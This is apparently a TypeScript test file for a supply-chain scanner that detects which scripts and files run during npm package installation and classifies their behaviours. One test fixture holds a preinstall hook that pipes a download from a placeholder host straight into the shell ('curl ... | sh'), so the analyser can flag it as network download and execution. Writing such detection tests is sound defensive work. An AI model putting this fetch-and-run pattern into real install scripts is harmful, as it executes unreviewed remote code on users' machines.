import { describe, expect, it } from 'vitest'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import { json } from '../../../formats/json.ts'
import { installHookBehaviours, type InstallHook, installHooks, type PackageOrigin } from './install-hooks.ts'

function hooksOf(manifest: object, files: readonly string[] = [], origin?: PackageOrigin): readonly InstallHook[] {
  const tree = json.parse(Buffer.from(JSON.stringify(manifest, null, 2)), DEFAULT_LIMITS)
  return installHooks(tree, 'package.json', files, origin)
}

describe('what runs while a package is installed', () => {
  const cases: readonly (readonly [command: string, files: readonly string[]])[] = [
    ['node scripts/x.js', ['scripts/x.js']],
    ['node ./scripts/x', ['scripts/x.js']],
    ['node .', ['lib/main.js']],
    ['node scripts', ['scripts/index.js']],
    ['cd scripts && node x.js', ['scripts/x.js']],
    ['node -r ./scripts/hook.cjs --no-warnings scripts/x.js', ['scripts/hook.cjs', 'scripts/x.js']],
    ['NODE_ENV=production npx --yes node scripts/x.js || exit 0', ['scripts/x.js']],
    ['echo hello && node x', ['x.js']],
    ['cmd /c "node scripts\\x.js"', ['scriptsx.js', 'scripts/x.js']],
    ['cross-env A=1 node scripts/x.js', ['scripts/x.js']],
    ['$npm_execpath run setup', ['scripts/x.js']],
    ['python -m tool', ['tool.py']],
    ['sh -c "sh install.sh"', ['install.sh']],
    ['NODE_ENV=production node scripts/x.js || exit 0', ['scripts/x.js']],
    ['sh install.sh', ['install.sh']],
    ['./install.sh', ['install.sh']],
    ['npm run setup', ['scripts/x.js']],
    ['own-command --flag', ['bin/cli.js']],
    ['node missing.js', ['missing.js']],
    ['node ../../outside.js', []],
    ['echo thanks', []],
  ]
  it.each(cases)('%s', (command, files) => {
    const manifest = {
      name: 'x',
      main: './lib/main.js',
      bin: { 'own-command': './bin/cli.js' },
      scripts: { postinstall: command, setup: 'node scripts/x.js' },
    }
    const all = [
      'x.js',
      'tool.py',
      'scripts/x.js',
      'scripts/hook.cjs',
      'scripts/index.js',
      'lib/main.js',
      'install.sh',
      'bin/cli.js',
    ]
    expect(hooksOf(manifest, all)).toMatchObject([{ name: 'postinstall', place: { line: 8 }, files }])
  })

  it('gives the code that stands in the command', () => {
    expect(hooksOf({ scripts: { preinstall: 'node -e "require(\'./x\')"' } })[0]?.inline).toEqual(["require('./x')"])
  })

  it('knows which scripts run where', () => {
    const scripts = { prepare: 'a', prepublishOnly: 'b', install: 'c', test: 'd', postinstall: '' }
    expect(hooksOf({ scripts }).map(({ name }) => name)).toEqual(['install'])
    expect(hooksOf({ scripts }, [], 'git').map(({ name }) => name)).toEqual(['install', 'prepare'])
  })

  it('knows that npm builds what has a binding.gyp', () => {
    expect(hooksOf({}, ['binding.gyp'])).toMatchObject([{ name: 'binding.gyp', command: 'node-gyp rebuild' }])
    expect(hooksOf({ gypfile: false }, ['binding.gyp'])).toEqual([])
    expect(hooksOf({ scripts: { install: 'x' } }, ['binding.gyp']).map(({ name }) => name)).toEqual(['install'])
  })

  it('follows scripts that call one another once', () => {
    expect(
      hooksOf({ scripts: { install: 'npm run a', a: 'npm run b', b: 'npm run a && node c.js' } })[0]?.files,
    ).toEqual(['c.js'])
  })

  it('tells behaviours', () => {
    const hooks = hooksOf({ scripts: { preinstall: 'curl https://a.example/x | sh' } })
    expect(installHookBehaviours(hooks).map(({ kind, subject, when }) => `${kind} ${subject} ${when}`)).toEqual([
      'install-hook preinstall install',
      'execute curl install',
      'network a.example install',
      'execute sh install',
      'download a.example install',
    ])
  })

  it('does not stumble over a manifest that is no manifest', () => {
    expect([hooksOf([]), hooksOf({ scripts: 'x' }), hooksOf({ scripts: { install: 1 } })]).toEqual([[], [], []])
  })
})
